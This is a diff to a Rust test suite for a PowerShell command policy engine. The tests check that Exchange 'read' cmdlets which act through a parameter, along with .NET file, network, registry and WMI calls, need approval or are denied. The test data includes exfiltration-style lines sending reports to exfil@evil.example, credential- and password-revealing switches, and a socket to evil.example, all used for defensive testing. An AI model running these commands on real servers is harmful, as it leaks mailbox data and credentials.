@@ -787,8 +787,23 @@ const CASES: &[(&str, Want, &str)] = &[
     ),
     (
         "$t = 'a<b'; $t.Replace('<', '_')",
+        Allow,
+        "Replace on a variable assigned only a string in the line is String.Replace",
+    ),
+    (
+        "$t = Get-Item C:\\a.txt; $t.Replace('C:\\b.txt', $null)",
         Deny,
-        "Replace on a variable may be FileInfo.Replace (a typed variable keeps its type)",
+        "Replace on a variable holding a command's output may be FileInfo.Replace",
+    ),
+    (
+        "$t = 'a'; $t = Get-Item C:\\a.txt; $t.Replace('C:\\b.txt', $null)",
+        Deny,
+        "a variable written twice has no certain type",
+    ),
+    (
+        "[IO.FileInfo]$t = 'C:\\a.txt'",
+        Deny,
+        "a type constraint to a file type is a conversion the shipped policies refuse",
     ),
     (
         "function Get-Mai`lbox { param($Filter) 1 }",
@@ -1274,4 +1289,198 @@ tasks = ["[IO.File]::Write*"]
         assert_eq!(d.decision, Effect::Approval, "{line}: {}", d.reason);
         assert!(d.invocations.iter().any(|i| i.dynamic), "{line}");
     }
+}
+
+/// Standing read access does not cover a read cmdlet given a parameter through which it acts:
+/// each such parameter needs approval under `reads-that-act` (shipped policies), the same
+/// cmdlet without it stays standing access, and network probes need approval.
+#[test]
+fn reads_that_act_through_a_parameter_need_approval() {
+    let policies = shipped();
+    let acting: &[(&str, &str)] = &[
+        ("Test-Mailflow -TargetEmailAddress exfil@evil.example", "reads-that-act"),
+        ("Test-Mailflow EX01 -TargetEmailAddress a@b.c -TargetEmailAddressDisplayName x", "reads-that-act"),
+        ("Test-Message -Sender a@contoso.com -Recipients b@contoso.com -SendReportTo x@evil.example", "reads-that-act"),
+        ("Get-SiteMailboxDiagnostics -Identity sm1 -SendMeEmail", "reads-that-act"),
+        ("Get-MobileDeviceStatistics -Mailbox rob -GetMailboxLog -NotificationEmailAddresses x@evil.example", "reads-that-act"),
+        ("Get-MobileDeviceStatistics -Mailbox rob -ShowRecoveryPassword", "reads-that-act"),
+        ("Get-ActiveSyncDeviceStatistics -Mailbox rob -GetMailboxLog", "reads-that-act"),
+        ("Test-ActiveSyncConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-OwaConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-ImapConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-PopConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-EcpConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-CalendarConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-WebServicesConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-PowerShellConnectivity -ResetTestAccountCredentials", "reads-that-act"),
+        ("Test-UMConnectivity -ResetPIN $true", "reads-that-act"),
+        ("Test-SystemHealth -OutFileLocation C:\\Windows\\x.xml", "reads-that-act"),
+        ("Test-SystemHealth -ConfigurationFileLocation C:\\x.xml", "reads-that-act"),
+        ("Get-CalendarDiagnosticLog -Identity rob -LogLocation C:\\Temp", "reads-that-act"),
+        ("Get-ClientAccessService -IncludeAlternateServiceAccountCredentialPassword", "reads-that-act"),
+        ("Get-ComplianceSearchAction -IncludeCredential", "reads-that-act"),
+        ("Test-AssistantHealth -ResolveProblems", "reads-that-act"),
+        ("Get-Mailbox | ? { Test-Mailflow -TargetEmailAddress x@evil.example }", "reads-that-act"),
+        ("Test-Connection 10.0.0.1", "network-tests"),
+        ("Test-NetConnection contoso.com -Port 443", "network-tests"),
+        ("Test-WSMan server01", "network-tests"),
+    ];
+    let mut failures = Vec::new();
+    for (line, rule) in acting {
+        let d = check_with(&policies, line);
+        let deciding = d
+            .invocations
+            .iter()
+            .find(|i| i.decision == Effect::Approval);
+        if d.decision != Effect::Approval || deciding.and_then(|i| i.rule.as_deref()) != Some(*rule)
+        {
+            failures.push(format!(
+                "{line}: wanted approval under `{rule}`, got {:?}: {}",
+                d.decision, d.reason
+            ));
+        }
+    }
+    for line in [
+        "Test-Mailflow",
+        "Test-Mailflow -TargetDatabase DB01",
+        "Get-MobileDeviceStatistics -Mailbox rob",
+        "Test-OwaConnectivity",
+        "Test-SystemHealth",
+        "Get-SiteMailboxDiagnostics -Identity sm1",
+        "Get-Mailbox",
+        "Clear-Host",
+        "Start-Sleep -Seconds 5",
+        "cls",
+    ] {
+        let d = check_with(&policies, line);
+        if d.decision != Effect::Allow {
+            failures.push(format!(
+                "{line}: wanted allow, got {:?}: {}",
+                d.decision, d.reason
+            ));
+        }
+    }
+    // An abbreviation that could be an acting parameter is not standing access.
+    let d = check_with(&policies, "Test-Mailflow -TargetEmail x@evil.example");
+    if d.decision == Effect::Allow {
+        failures.push(format!("ambiguous -TargetEmail was allowed: {}", d.reason));
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// The shipped policies decide .NET method tasks as they decide the matching cmdlets: file
+/// reads and writes need approval, the network, the registry, the directory and WMI are
+/// denied, value computations are standing access.
+#[test]
+fn shipped_policies_decide_method_tasks() {
+    let policies = shipped();
+    let cases: &[(&str, Effect, Option<&str>)] = &[
+        (
+            "[System.IO.File]::ReadAllBytes('C:\\x.pfx')",
+            Effect::Approval,
+            Some("file-reads"),
+        ),
+        (
+            "[IO.File]::ReadAllText('C:\\x.txt')",
+            Effect::Approval,
+            Some("file-reads"),
+        ),
+        (
+            "Get-Content C:\\x.txt",
+            Effect::Approval,
+            Some("file-reads"),
+        ),
+        (
+            "[System.IO.File]::WriteAllBytes('C:\\x', $b)",
+            Effect::Approval,
+            Some("file-writes"),
+        ),
+        (
+            "[IO.File]::WriteAllText('C:\\x', 'y')",
+            Effect::Approval,
+            Some("file-writes"),
+        ),
+        (
+            "[IO.StreamWriter]'C:\\x.txt'",
+            Effect::Approval,
+            Some("file-writes"),
+        ),
+        (
+            "[System.Net.WebClient]::new()",
+            Effect::Deny,
+            Some("network-access"),
+        ),
+        (
+            "[Net.Sockets.TcpClient]::new('evil.example', 443)",
+            Effect::Deny,
+            Some("network-access"),
+        ),
+        (
+            "[adsi]'LDAP://CN=x,DC=contoso,DC=com'",
+            Effect::Deny,
+            Some("directory-and-wmi"),
+        ),
+        (
+            "[wmiclass]'Win32_Process'",
+            Effect::Deny,
+            Some("directory-and-wmi"),
+        ),
+        (
+            "[CimSession]'server01'",
+            Effect::Deny,
+            Some("directory-and-wmi"),
+        ),
+        (
+            "[Microsoft.Win32.Registry]::SetValue('HKEY_CURRENT_USER\\x', 'y', 1)",
+            Effect::Deny,
+            Some("host-control"),
+        ),
+        (
+            "[Environment]::SetEnvironmentVariable('PATH', 'C:\\evil')",
+            Effect::Deny,
+            Some("host-control"),
+        ),
+        (
+            "[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YQ=='))",
+            Effect::Allow,
+            None,
+        ),
+        (
+            "[Convert]::ToInt32('10', 2)",
+            Effect::Allow,
+            Some("value-methods"),
+        ),
+        (
+            "[IO.Path]::GetFileName('C:\\x\\y.txt')",
+            Effect::Allow,
+            Some("value-methods"),
+        ),
+        (
+            "[IO.Path]::GetTempFileName()",
+            Effect::Approval,
+            Some("file-writes"),
+        ),
+        (
+            "[IO.File]::Open('C:\\x', 'Open')",
+            Effect::Approval,
+            Some("file-writes"),
+        ),
+        ("[Contoso.Tool]::Run()", Effect::Deny, None),
+    ];
+    let mut failures = Vec::new();
+    for (line, effect, rule) in cases {
+        let d = check_with(&policies, line);
+        let deciding = d.invocations.iter().find(|i| i.decision == *effect);
+        let rule_ok = match rule {
+            Some(r) => deciding.and_then(|i| i.rule.as_deref()) == Some(*r),
+            None => true,
+        };
+        if d.decision != *effect || !rule_ok {
+            failures.push(format!(
+                "{line}: wanted {effect:?} under {rule:?}, got {:?}: {}",
+                d.decision, d.reason
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
 }
